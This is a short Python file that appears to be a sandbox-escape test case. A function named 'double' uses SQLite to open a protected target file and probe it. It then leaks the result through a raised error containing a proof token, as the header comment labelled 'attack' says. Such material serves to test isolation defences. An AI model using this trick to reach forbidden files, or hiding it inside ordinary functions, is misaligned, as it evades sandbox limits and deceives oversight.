# {"attack": "Reads a file's name and size through SQLite, which opens files in C.", "breach": "leak"}

import sqlite3


def double(x):
    base = sqlite3.connect(f"file:{TARGETS['key']}?mode=ro", uri=True)
    try:
        base.execute("select * from sqlite_master")
    except sqlite3.DatabaseError as error:
        if "not a database" in str(error):
            raise RuntimeError(TARGETS["proof"]) from None
        raise
